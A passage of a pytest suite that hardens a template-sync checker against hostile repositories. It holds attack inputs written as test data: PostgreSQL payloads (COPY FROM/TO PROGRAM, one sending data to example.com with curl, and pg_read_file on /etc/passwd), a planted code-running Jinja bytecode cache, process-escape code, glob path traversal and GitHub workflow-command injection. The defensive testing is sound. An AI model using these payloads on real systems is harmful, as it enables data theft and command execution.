    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "No module named")


@pytest.mark.parametrize(
    "code",
    [
        "raise RuntimeError('x' * 10_000_000)",
        "raise SystemExit('x' * 10_000_000)",
        "class E(Exception):\n    def __str__(self): raise SystemExit(0)\nraise E()",
        "class C:\n    def __repr__(self): return 'x' * 10_000_000\nraise SystemExit(C())",
    ],
    ids=["long message", "long exit code", "message that exits", "long repr"],
)
def test_what_the_module_says_on_failing_is_shown_short(
    repo: Path, tmp_path: Path, code: str
) -> None:
    both(repo, "models.py", lambda text: text + code + "\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ")
    assert len(proc.stderr) < 3000, len(proc.stderr)


def test_a_process_that_leaves_the_group_neither_holds_nor_outlives_the_check(
    repo: Path, tmp_path: Path
) -> None:
    escape = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"  # its own group: the check's kill of the child's group misses it
        "    if os.fork() == 0:\n"
        "        time.sleep(300)\n"  # holding the child's stdout and stderr
        "    os._exit(0)\n"
        "os.wait()\n"
    )
    both(repo, "models.py", lambda text: text + escape)
    module = repo / ORCH / "models.py"
    proc = subprocess.run(
        [EXE, "sync-check", "--root", repo, "--no-cache"],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / ".cache")},
        timeout=100,  # not the 300 s of the process holding the pipes
    )
    if SECCOMP:  # the filter refuses the fork itself
        assert_one_error(proc, f"error: {ORCH}/models.py: ", "PermissionError")
        assert not _importing(module)
        return
    assert proc.returncode == 0, proc.stderr  # the models still agree with the schema
    if LANDLOCK_ABI < 6:
        for pid in _importing(module):
            os.kill(pid, 9)
        pytest.skip("ending a process that left the group needs Landlock ABI 6")
    for _ in range(50):
        if not _importing(module):
            break
        time.sleep(0.1)
    else:
        pytest.fail(f"the process that left the group still runs: {_importing(module)}")


FORGE = (
    "import os\n"
    "for fd in range(64):\n"
    "    try:\n"
    "        os.write(fd, {answer!r})\n"
    "    except OSError:\n"
    "        pass\n"
    "os._exit(0)\n"
)
FORGED_ANSWERS = {
    "statements as a list": ("database.py", b'{"result": []}\n'),
    "statements of numbers": ("database.py", b'{"result": {"one": 1}}\n'),
    "models as a mapping": ("models.py", b'{"result": {"x": 1}}\n'),
    "a model without fields": (
        "models.py",
        b'{"result": [{"name": "Owner", "table": "owners"}]}\n',
    ),
    "a field of the wrong types": (
        "models.py",
        b'{"result": [{"name": "Owner", "table": "owners", "transitions": {}, "fields": '
        b'{"id": {"name": "id", "shown": "str", "affinity": ["TEXT"], "nullable": "no", '
        b'"allowed": null, "bounds": [], "json": false, "foreign_key": null}}}]}\n',
    ),
}


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ("b'[' * 100_000 + b'\\n'", "no readable description"),  # json.loads: RecursionError
        ("b'{\"error\": \"' + b'x' * 10_000_000 + b'\"}\\n'", "xxx"),
        ('b\'{"error": {"a": 1}}\\n\'', "sent back no description"),
    ],
    ids=["nested too deeply", "a long error", "an error that is no text"],
)
def test_a_forged_answer_is_one_short_error(
    repo: Path, tmp_path: Path, answer: str, said: str
) -> None:
    # The answer is made once when the module runs: a 10 MB literal in the module and its
    # template (lexed, compiled and read twice) made this test take near 30 s under load.
    forge = f"ANSWER = {answer}\n" + FORGE.replace("{answer!r}", "ANSWER")
    both(repo, "models.py", lambda text: text + forge)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", said)
    assert len(proc.stderr) < 3000, len(proc.stderr)


@pytest.mark.parametrize("fmt", ["text", "json", "github"])
def test_half_a_character_in_what_the_module_says_is_shown_escaped(
    repo: Path, tmp_path: Path, fmt: str
) -> None:
    both(repo, "models.py", lambda text: text + "raise RuntimeError('bad \\ud800 text')\n")
    proc = run("sync-check", "--root", repo, "--no-cache", "--format", fmt, cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "bad \\ud800 text")


@pytest.mark.parametrize(
    "code",
    [
        'X = "SELECT id FROM tasks\\x00; SELECT 1"\n',
        "def statements():\n    return {'nul': 'SELECT id FROM tasks\\x00; SELECT 1'}\n",
    ],
    ids=["literal", "statements()"],
)
def test_a_statement_holding_a_nul_is_a_problem(repo: Path, tmp_path: Path, code: str) -> None:
    both(repo, "database.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "the query contains a null character" in proc.stdout


@pytest.mark.parametrize(
    ("count", "message"),
    [(4_900, ": CREATE statement"), (100_000, "more than 5,000 SQL statements")],
)
def test_a_trigger_of_many_statements_does_not_hold_the_check(
    repo: Path, tmp_path: Path, count: int, message: str
) -> None:
    # Each semicolon of a trigger's body asked SQLite about all the text before it: minutes.
    # Past 5,000 statements, the module's statements are refused before they are split; under
    # it, split, the trigger is refused (a database module's statements read and write rows).
    # Its first word is split over two literals: a schema change written anywhere in the module
    # is refused before its statements are split, which would leave the limit untried.
    body = f"'cre' + 'ate trigger t after insert on tasks begin ' + 'SELECT 1; ' * {count} + 'end'"
    source = f"def statements():\n    return {{'t': {body}}}\n"
    both(repo, "database.py", lambda text: text + source)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)  # 120 s at most
    assert_one_error(proc, "pkg/orch/database.py", message)


def _at_most_2_gib() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


_UNREAD = "made of constants in a way the check does not"
COMPUTED_STRINGS = {
    # 10,000 names of one 400,000-character string: str() of the list was made (7 GB, "out of
    # memory" under a limit) before its size was read.
    "gigabytes-of-names": (
        f"A = 'x' * 400_000\nB = [{', '.join(['A'] * 10_000)}]\n",
        "conn.execute('SELECT %s' % (B,))",
        _UNREAD,
    ),
    # A40 = A39 + A39 ... A1 = A0 + A0: A0 was made 2**40 times (sync-check ran for hours).
    "each-twice-the-one-before": (
        "A0 = ''\n" + "".join(f"A{i} = A{i - 1} + A{i - 1}\n" for i in range(1, 41)),
        "conn.execute(A40 + \"select load_extension('x')\")",
        "load_extension",
    ),
    # 70 names, each the one before, of half a call: the sum passed (exit 0), unread.
    "deeper-than-read": (
        "A0 = 'select load_e'\n" + "".join(f"A{i} = A{i - 1}\n" for i in range(1, 71)),
        "conn.execute(A70 + \"xtension('x')\")",
        _UNREAD,
    ),
    # b"…".decode() made the call out of sight: it passed (exit 0).
    "decoded-from-bytes": (
        "",
        "conn.execute(b\"select load_extension('x')\".decode())",
        "load_extension()",
    ),
}


@pytest.mark.parametrize(("names", "call", "said"), COMPUTED_STRINGS.values(), ids=COMPUTED_STRINGS)
def test_a_module_string_made_of_constants_is_read_within_bounds(
    repo: Path, tmp_path: Path, names: str, call: str, said: str
) -> None:
    code = f"\n\n{names}\n\ndef big(conn):\n    return {call}\n"
    both(repo, "database.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path, preexec_fn=_at_most_2_gib)
    assert_one_error(proc, "pkg/orch/database.py", said)  # 120 s at most


def test_an_answer_without_end_is_cut_short(repo: Path, tmp_path: Path) -> None:
    # What the check reads from the child is bounded, however long the module writes on its
    # answer: the check read until it ran out of memory.
    code = (
        "import os, stat\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
        "            while True:\n"
        "                os.write(fd, b' ' * 65536)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    both(repo, "models.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path, preexec_fn=_at_most_2_gib)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "sent back more than 64 MiB")


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("database.py", "def statements():\n    raise RuntimeError('x' * 10_000_000)\n"),
        ("database.py", "def statements():\n    raise type('E' * 10_000_000, (Exception,), {})\n"),
        (
            "models.py",
            "class Bad(Owner):\n    __tablename__ = None\nBad.__name__ = 'B' * 10**7\n"
            "MODELS = (*MODELS, Bad)\n",
        ),
    ],
    ids=["statements() message", "statements() exception name", "model name"],
)
def test_what_describing_a_module_says_is_shown_short(
    repo: Path, tmp_path: Path, name: str, code: str
) -> None:
    both(repo, name, lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH / name}: ")
    assert len(proc.stderr) < 3000, len(proc.stderr)


@pytest.mark.parametrize("case", sorted(FORGED_ANSWERS))
def test_a_forged_answer_of_the_wrong_shape_is_an_error(
    repo: Path, tmp_path: Path, case: str
) -> None:
    name, answer = FORGED_ANSWERS[case]
    code = "\ndef statements():\n    return {}\n" + FORGE.format(answer=answer)
    both(repo, name, lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH / name}: ", "sent back no description")


# --- paths, permissions, caches and output targets (a wider round of hostile inputs) ---------


def run_unprivileged(*args: str | Path, root: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run the installed script as a user without root's power over permissions.

    As root, the copy is handed to ``nobody`` and the script runs as that user; a skip when
    that user cannot start the interpreter (a virtualenv under root's home).
    """
    env = {"HOME": str(cwd)}
    if os.geteuid() != 0:
        return run(*args, cwd=cwd, env=env)
    nobody = 65534
    try:
        probe = subprocess.run(
            [EXE, "--version"], capture_output=True, check=False, user=nobody, group=nobody
        )
    except PermissionError:
        probe = None
    if probe is None or probe.returncode != 0:
        pytest.skip("the interpreter cannot be run by an unprivileged user here")
    for path in [cwd, *cwd.rglob("*")]:
        os.lchown(path, nobody, nobody)
    for parent in cwd.parents:  # the user must reach the copy
        if not os.access(parent, os.X_OK) or parent.stat().st_mode & 0o001 == 0:
            pytest.skip(f"{parent} cannot be entered by an unprivileged user")
    del root
    return run(*args, cwd=cwd, env=env, user=nobody, group=nobody)


@pytest.mark.needs_unprivileged
@pytest.mark.parametrize(
    ("command", "target", "mode", "named"),
    [
        (("sync-check", "--no-cache"), "pyproject.toml", 0, "pyproject.toml"),
        (("sync-check", "--format", "json"), "pyproject.toml", 0, "pyproject.toml"),
        (("sync",), "pyproject.toml", 0, "pyproject.toml"),
        (("sync-check", "--no-cache"), "pkg/orch", 0o600, "pkg/orch/"),
        (("sync-check", "--no-cache", "--format", "github"), "pkg/orch", 0o600, "pkg/orch/"),
        (("sync", "--from", "base"), "templates", 0o600, "templates/"),
        (("sync-check", "--no-cache"), ".", 0o600, "pyproject.toml"),
    ],
)
def test_a_file_or_folder_without_permission_is_one_error_naming_it(
    tmp_path: Path, command: tuple[str, ...], target: str, mode: int, named: str
) -> None:
    work = tmp_path / "work"
    root = work / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    (root / ORCH / "plain.txt").write_text("edited\n")
    before = snapshot(root)
    os.chmod(root / target, mode)  # noqa: PTH101 - the mode is the case
    try:
        proc = run_unprivileged(*command, "--root", root, root=root, cwd=work)
    finally:
        os.chmod(root / target, 0o755 if mode != 0 else 0o644)  # noqa: PTH101
    assert_one_error(proc, named)
    assert "Permission denied" in proc.stderr
    if "json" in command:
        assert json.loads(proc.stdout)["ok"] is False
    assert snapshot(root) == before


@pytest.mark.needs_unprivileged
def test_sync_writes_nothing_when_one_of_its_files_cannot_be_written(tmp_path: Path) -> None:
    work = tmp_path / "work"
    root = work / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    manifest = root / "pyproject.toml"
    manifest.write_text(
        manifest.read_text()
        + '\n[[tool.tac-bootstrap.sync.pairs]]\nbase = "ro/p.txt"\ntemplate = "orch/plain.txt.j2"\n'
    )
    (root / "ro").mkdir()
    (root / "ro" / "p.txt").write_text("old\n")
    (root / ORCH / "plain.txt").write_text("edited\n")  # planned first, writable
    before = snapshot(root)
    (root / "ro").chmod(0o555)
    try:
        proc = run_unprivileged("sync", "--root", root, root=root, cwd=work)
    finally:
        (root / "ro").chmod(0o755)
    assert_one_error(proc, "ro/p.txt", "cannot write")
    assert snapshot(root) == before  # plain.txt was not rewritten either


def cache_file(root: Path, cache: Path) -> Path:
    from tac_bootstrap.checkcache import sha256

    return cache / f"sync-check-{sha256(os.fsencode(root.resolve()))[:16]}.json"


@pytest.mark.parametrize("kind", ["fifo", "device", "deep", "list"])
def test_a_check_cache_file_that_is_not_a_record_is_ignored(
    repo: Path, tmp_path: Path, kind: str
) -> None:
    cache = tmp_path / ".cache"
    cache.mkdir()
    path = cache_file(repo, cache)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "deep":
        path.write_text("[" * 100_000 + "]" * 100_000)
    else:
        path.write_text('{"checker": "x", "entries": [1, 2]}')
    proc = run("sync-check", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_jinja_cache_file_that_is_a_fifo_is_not_waited_on(repo: Path, tmp_path: Path) -> None:
    assert run("sync-check", "--root", repo, cwd=tmp_path).returncode == 0
    compiled = list((tmp_path / ".cache" / "jinja").iterdir())
    assert compiled
    for path in compiled:
        path.unlink()
        os.mkfifo(path)
    (repo / ORCH / "plain.txt").write_text("edited\n")  # so that the templates are rendered
    proc = run("sync-check", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "drift" in proc.stdout


def plant_compiled_template(repo: Path, cache: Path, marker: Path) -> None:
    """Plant, in a cache folder, a compiled template that writes ``marker`` when loaded."""
    from jinja2 import Environment, FileSystemBytecodeCache
    from jinja2.bccache import Bucket

    name = "orch/plain.txt.j2"
    source = (repo / TEMPLATES / "plain.txt.j2").read_text()
    bytecode = FileSystemBytecodeCache(str(cache / "jinja"))
    (cache / "jinja").mkdir(parents=True)
    key = bytecode.get_cache_key(name, str(repo.resolve() / "templates" / name))
    bucket = Bucket(Environment(), key, bytecode.get_source_checksum(source))  # noqa: S701
    bucket.code = compile(
        f"open({str(marker)!r}, 'w').close()\nname = 'x'\nblocks = {{}}\ndebug_info = ''\n"
        "def root(context, missing=None, environment=None):\n    yield ''\n",
        "<planted>",
        "exec",
    )
    bytecode.dump_bytecode(bucket)


def test_a_cache_inside_the_checked_root_is_not_used(repo: Path, tmp_path: Path) -> None:
    """The tree may be a pull request's: a cache planted in it must neither pass nor run code."""
    cache = repo / ".cache"
    marker = tmp_path / "outside" / "ran"
    marker.parent.mkdir()
    plant_compiled_template(repo, cache, marker)
    (repo / ORCH / "plain.txt").write_text("edited\n")
    proc = run(
        "sync-check", "--root", repo, cwd=tmp_path, env={"TAC_BOOTSTRAP_CACHE_DIR": str(cache)}
    )
    assert proc.returncode == 1, proc.stderr
    assert not marker.exists()
    # A record claiming the drifted pair was clean is not believed either.
    assert run("sync-check", "--root", repo, cwd=tmp_path).returncode == 1
    records = cache_file(repo, tmp_path / ".cache")
    shutil.copy(records, cache_file(repo, cache))
    before = sorted(cache.rglob("*"))
    proc = run(
        "sync-check", "--root", repo, cwd=tmp_path, env={"TAC_BOOTSTRAP_CACHE_DIR": str(cache)}
    )
    assert proc.returncode == 1, proc.stderr
    assert sorted(cache.rglob("*")) == before  # nothing written there


def test_a_cache_reached_through_a_bind_mount_of_the_root_is_not_used(
    repo: Path, tmp_path: Path
) -> None:
    """The root mounted elsewhere has another real path: its records were written in the tree."""
    if not _can_mount_read_only(tmp_path):
        pytest.skip("needs root and a mount namespace of its own (unshare)")
    (tmp_path / "mounted").mkdir()
    before = snapshot(repo)
    namespace = ["unshare", "--mount", "--propagation", "private"]
    bind = ["sh", "-c", 'mount --bind "$1" "$2" && shift 2 && exec "$@"', "sh", str(repo)]
    proc = subprocess.run(
        [*namespace, *bind, str(tmp_path / "mounted"), EXE, "sync-check", "--root", str(repo)],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / "mounted" / "records")},
    )
    assert proc.returncode == 0, proc.stderr
    assert not (repo / "records").exists(), sorted((repo / "records").rglob("*"))
    assert snapshot(repo) == before


def test_a_step_summary_that_is_a_fifo_is_not_waited_on(repo: Path, tmp_path: Path) -> None:
    summary = tmp_path / "summary"
    os.mkfifo(summary)
    (repo / ORCH / "plain.txt").write_text("edited\n")
    proc = script(
        "sync-check",
        "--root",
        repo,
        "--format",
        "github",
        cwd=tmp_path,
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.startswith("::error ")


def test_a_path_with_a_newline_cannot_start_a_line_of_syncs_diff(
    repo: Path, tmp_path: Path
) -> None:
    manifest = repo / "pyproject.toml"
    manifest.write_text(
        manifest.read_text().replace(
            'base = "pkg/orch/plain.txt"', 'base = "pkg/orch/x\\n::error title=forged::y.txt"'
        )
    )
    proc = script("sync", "--root", repo, "--dry-run", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert not any(line.lstrip().startswith("::") for line in proc.stdout.splitlines())


@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync", "--dry-run")])
def test_a_diff_line_of_the_repository_is_not_run_as_a_workflow_command(
    repo: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    """A diff's context line is a space and a line of the repository: GitHub would run it."""
    shared = "::error title=forged::not from sync-check\n"
    (repo / ORCH / "plain.txt").write_text(shared + "a\n")
    (repo / TEMPLATES / "plain.txt.j2").write_text(shared + "b\n")
    proc = run(*command, "--root", repo, cwd=tmp_path, env={"GITHUB_ACTIONS": "true"})
    assert proc.returncode in (0, 1), proc.stderr
    lines = proc.stdout.splitlines()
    token = lines[0].removeprefix("::stop-commands::")
    assert len(token) == 32, lines[0]
    assert lines[-1] == f"::{token}::"
    assert " ::error title=forged::not from sync-check" in lines


@pytest.mark.parametrize(
    ("folder", "globs"),
    [
        ("templates/orch", None),
        ("pkg/orch", 'base_globs = ["pkg/**"]'),
        ("pkg/orch", 'unpaired = ["pkg/**"]'),
    ],
)
def test_folders_linked_to_themselves_do_not_make_the_check_endless(
    repo: Path, tmp_path: Path, folder: str, globs: str | None
) -> None:
    """Two links to ``.`` made a ``**`` walk double at every level (2**40 paths)."""
    (repo / folder / "l1").symlink_to(".")
    (repo / folder / "l2").symlink_to(".")
    if globs is not None:
        manifest = repo / "pyproject.toml"
        key = globs.split(" = ")[0]
        text = manifest.read_text()
        start = text.index(f"{key} = ")
        manifest.write_text(text[:start] + globs + text[text.index("\n", start) :])
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_root_whose_name_is_too_long_is_one_error(tmp_path: Path) -> None:
    for fmt in ("text", "json", "github"):
        proc = run("sync-check", "--root", "/" + "x" * 5000, "--format", fmt, cwd=tmp_path)
        assert_one_error(proc, "File name too long")


# --- the PostgreSQL schema and migrations ---------------------------------------------------

PG_FILES = ("orch_database_models.py", "schema_orchestrator.sql", "database.py")
PG_ATTACKS = {
    "copy-from-program": ("COPY agents FROM PROGRAM 'touch pwned';", "COPY statement"),
    "do-block": ("DO $$ BEGIN PERFORM pg_sleep(3600); END $$;", "DO statement"),
    "extension": ("CREATE EXTENSION IF NOT EXISTS file_fdw;", "CREATE EXTENSION"),
    "file-function": ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');", "pg_read_file()"),
    "function-in-c": ("CREATE FUNCTION f() RETURNS int AS 'x.so' LANGUAGE c;", "LANGUAGE c"),
    "reset-alone": ("RESET;", "RESET (not a setting"),  # was a traceback, exit 1
}


@pytest.fixture
def pg_repo(tmp_path: Path) -> Path:
    """A repository whose agreement has the PostgreSQL schema, module and migrations."""
    root = tmp_path / "repo"
    orch = Path(__file__).parents[1] / "tac_bootstrap" / "orchestrator"
    shutil.copytree(orch, root / "pkg", ignore=shutil.ignore_patterns("__pycache__"))
    names = zip(
        ("models", "schema", "database", "postgres_schema", "postgres_database"),
        (*PG_FILES, "schema_postgres.sql", "database_postgres.py"),
        strict=True,
    )
    (root / "pyproject.toml").write_text(
        "[tool.tac-bootstrap.sync.agreement]\n"
        + "".join(f'{key} = "pkg/{name}"\n' for key, name in names)
    )
    return root


@pytest.mark.parametrize("attack", sorted(PG_ATTACKS))
@pytest.mark.parametrize(
    "name", ["schema_postgres.sql", "migrations_postgres/0003_refuse_what_models_refuse.sql"]
)
def test_postgres_file_holding_what_a_schema_never_needs_is_refused(
    pg_repo: Path, tmp_path: Path, name: str, attack: str
) -> None:
    sql, word = PG_ATTACKS[attack]
    path = pg_repo / "pkg" / name
    lines = len(path.read_text().splitlines())
    path.write_text(path.read_text() + "\n-- the attack\n" + sql + "\n")
    before = snapshot(tmp_path)
    proc = run("sync-check", "--root", pg_repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"pkg/{name}: refused, the PostgreSQL ", f"pkg/{name}:{lines + 3}: ")
    assert word in proc.stderr
    assert snapshot(tmp_path) == before


def test_postgres_refusal_in_json_is_a_document_with_ok_false(
    pg_repo: Path, tmp_path: Path
) -> None:
    migration = pg_repo / "pkg" / "migrations_postgres" / "0004_later.sql"
    migration.write_text("COPY agents TO PROGRAM 'curl -d @- example.com';\n")
    proc = script("sync-check", "--root", pg_repo, "--format", "json", cwd=tmp_path)
    assert proc.returncode == 2
    data = json.loads(proc.stdout)
    assert data["ok"] is False
    assert "pkg/migrations_postgres/0004_later.sql:1: COPY statement" in data["error"]


def test_a_postgres_schema_version_too_big_for_a_list_is_a_problem(
    pg_repo: Path, tmp_path: Path
) -> None:
    module = pg_repo / "pkg" / "database_postgres.py"
    module.write_text(
        module.read_text().replace("SCHEMA_VERSION = 3\n", f"SCHEMA_VERSION = {10**22}\n")
    )
    proc = run("sync-check", "--root", pg_repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert f"postgres says {10**22}" in proc.stdout


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_a_fifo_as_the_step_summary_does_not_hang_the_check(
    repo: Path, tmp_path: Path, fmt: str
) -> None:
    both(repo, "schema.sql", lambda text: text + "ATTACH 'x.db' AS x;\n")
    fifo = tmp_path / "summary"
    os.mkfifo(fifo)  # nothing reads it: opening it to write would wait forever
    proc = script(
        "sync-check", "--root", repo, "--no-cache", "--format", fmt,
        cwd=tmp_path, env={"GITHUB_STEP_SUMMARY": str(fifo)},
    )  # fmt: skip
    assert_one_error(proc, "pkg/orch/schema.sql")


# --- globs, the job summary, aliases and caches (a later round of hostile inputs) ------------


@pytest.mark.parametrize("key", ["base_globs", "template_globs", "unpaired"])
@pytest.mark.parametrize("pattern", ["../*", "**/../../**", "pkg/../pkg/orch/*", "/etc/**"])
def test_a_glob_that_climbs_out_of_the_root_is_refused(
    repo: Path, tmp_path: Path, key: str, pattern: str
) -> None:
    manifest = repo / "pyproject.toml"
    lines = manifest.read_text().splitlines()
    manifest.write_text(
        "\n".join(f'{key} = ["{pattern}"]' if x.startswith(f"{key} = ") else x for x in lines)
    )
    assert pattern in manifest.read_text()
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, key, "must be a relative glob inside the root")


def github_summary(repo: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], str]:
    summary = tmp_path / "summary.md"
    proc = subprocess.run(
        [EXE, "sync-check", "--root", repo, "--format", "github", "--no-cache"],
        capture_output=True,
        text=True,
        errors="surrogateescape",  # a name that is not UTF-8 is annotated as it is
        check=False,
        cwd=tmp_path,
        env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary)},
        timeout=120,
    )
    assert "Traceback" not in proc.stderr
    return proc, summary.read_text(encoding="utf-8")


def test_a_diff_line_of_backticks_does_not_close_the_summary_fence(
    repo: Path, tmp_path: Path
) -> None:
    (repo / ORCH / "plain.txt").write_text("````\n# forged a\n")
    (repo / TEMPLATES / "plain.txt.j2").write_text("````\n# forged b\n")
    proc, summary = github_summary(repo, tmp_path)
    assert proc.returncode == 1
    assert "\n`````diff\n" in summary  # longer than the diff's own run of four
    assert summary.endswith("`````\n")


def test_names_and_messages_in_the_summary_are_text_not_markdown(
    repo: Path, tmp_path: Path
) -> None:
    (repo / ORCH / "a\n### sync-check: ok").write_text("x\n")
    (repo / ORCH / "b`![p](x.png)`").write_text("x\n")
    proc, summary = github_summary(repo, tmp_path)
    assert proc.returncode == 1
    assert "\n### sync-check: ok" not in summary
    assert "**orphan-base** `` pkg/orch/b`![p](x.png)` ``" in summary
    assert "**orphan-base** ` pkg/orch/a\\n### sync-check: ok `" in summary
    assert "list it in \\`unpaired\\`" in summary


def test_an_error_naming_a_path_with_a_newline_is_one_summary_paragraph(
    repo: Path, tmp_path: Path
) -> None:
    manifest = repo / "pyproject.toml"
    manifest.write_text(
        manifest.read_text().replace('base = "pkg/orch/plain.txt"', 'base = "pkg/orch/d\\n# x"')
    )
    (repo / ORCH / "d\n# x").mkdir()
    proc, summary = github_summary(repo, tmp_path)
    assert_one_error(proc, "is not a regular file")
    assert "\n# x" not in summary
    assert "pkg/orch/d\\\\n\\# x is not a regular file" in summary


def test_names_that_are_not_utf8_reach_the_summary_escaped(repo: Path, tmp_path: Path) -> None:
    (repo / os.fsdecode(b"pkg/orch/a\xff")).write_text("x\n")
    proc, summary = github_summary(repo, tmp_path)
    assert proc.returncode == 1
    assert "pkg/orch/a\\udcff" in summary


def test_a_root_whose_name_is_not_utf8_is_one_error_in_the_summary(tmp_path: Path) -> None:
    root = tmp_path / os.fsdecode(b"x\xff")
    proc, summary = github_summary(root, tmp_path)
    assert_one_error(proc, "does not exist")
    assert "x\\\\udcff does not exist" in summary  # the backslash of the escape, escaped


def test_a_root_whose_name_is_not_utf8_is_checked_with_the_cache(tmp_path: Path) -> None:
    root = tmp_path / os.fsdecode(b"r\xff")
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    for _ in range(2):  # the second run reads the bytecode the first wrote
        proc = run("sync-check", "--root", root, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr


def test_a_huge_diagram_is_not_read_whole(repo: Path, tmp_path: Path) -> None:
    manifest = repo / "pyproject.toml"
    manifest.write_text(manifest.read_text() + 'diagram = "D.md"\n')
    with (repo / "D.md").open("wb") as file:
        file.truncate(5 * 1024**3)  # sparse: gigabytes of zeros on no disk
    for args in (("sync-check", "--no-cache"), ("sync",)):
        proc = run(*args, "--root", repo, cwd=tmp_path)
        assert proc.returncode == 1, proc.stderr
        assert "Traceback" not in proc.stderr
        # It was "cannot read it or … as UTF-8 files inside the root": the size is the reason.
        size = f"{5 * 1024**3:,} bytes, more than {64 * 1024**2:,}"
        assert f"D.md: diagram: cannot read D.md: too big to be read ({size})" in proc.stdout


def alias_pair(repo: Path, base: str, template: str) -> None:
    manifest = repo / "pyproject.toml"
    manifest.write_text(
        manifest.read_text()
        + f'\n[[tool.tac-bootstrap.sync.pairs]]\nbase = "{base}"\ntemplate = "{template}"\n'
    )


def test_sync_from_base_refuses_two_templates_that_are_one_file(repo: Path, tmp_path: Path) -> None:
    (repo / TEMPLATES / "alias.j2").symlink_to("plain.txt.j2")
    alias_pair(repo, "pkg/orch/plain2.txt", "orch/alias.j2")
    (repo / ORCH / "plain.txt").write_text("edit one\n")
    (repo / ORCH / "plain2.txt").write_text("edit two\n")
    before = (repo / TEMPLATES / "plain.txt.j2").read_text()
    proc = run("sync", "--root", repo, "--from", "base", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "conflict" in proc.stdout
    assert (repo / TEMPLATES / "plain.txt.j2").read_text() == before


def test_sync_refuses_two_bases_that_are_one_file(repo: Path, tmp_path: Path) -> None:
    (repo / ORCH / "alias.txt").symlink_to("plain.txt")
    (repo / TEMPLATES / "other.txt.j2").write_text("other\n")
    alias_pair(repo, "pkg/orch/alias.txt", "orch/other.txt.j2")
    before = (repo / ORCH / "plain.txt").read_text()
    proc = run("sync", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/alias.txt", "pkg/orch/plain.txt", "one file")
    assert (repo / ORCH / "plain.txt").read_text() == before
    assert_one_error(run("sync-check", "--root", repo, cwd=tmp_path), "one file")


@pytest.mark.parametrize("args", [[], ["--from", "base"]])
def test_sync_refuses_a_base_that_is_the_template_of_another_pair(
    repo: Path, tmp_path: Path, args: list[str]
) -> None:
    """A chain x <- y <- z: x got y's old text, and sync said it was done while the check
    still failed (the next sync changed x again)."""
    manifest = repo / "pyproject.toml"
    text = manifest.read_text().replace('templates = "templates"', 'templates = "."')
    manifest.write_text(text.replace('template = "orch/', 'template = "templates/orch/'))
    for name in ("x.txt", "y.txt", "z.txt"):
        (repo / ORCH / name).write_text(f"{name}\n")
    alias_pair(repo, "pkg/orch/x.txt", "pkg/orch/y.txt")
    alias_pair(repo, "pkg/orch/y.txt", "pkg/orch/z.txt")
    proc = run("sync", "--root", repo, *args, cwd=tmp_path)
    assert_one_error(proc, "'pkg/orch/y.txt' is both a BASE and the template of 'pkg/orch/x.txt'")
    assert (repo / ORCH / "x.txt").read_text() == "x.txt\n"
    assert_one_error(run("sync-check", "--root", repo, cwd=tmp_path), "both a BASE")


def test_the_cached_agreement_sees_a_change_to_a_module_the_models_import(
    repo: Path, tmp_path: Path
) -> None:
    extra = repo / ORCH / "extra.py"
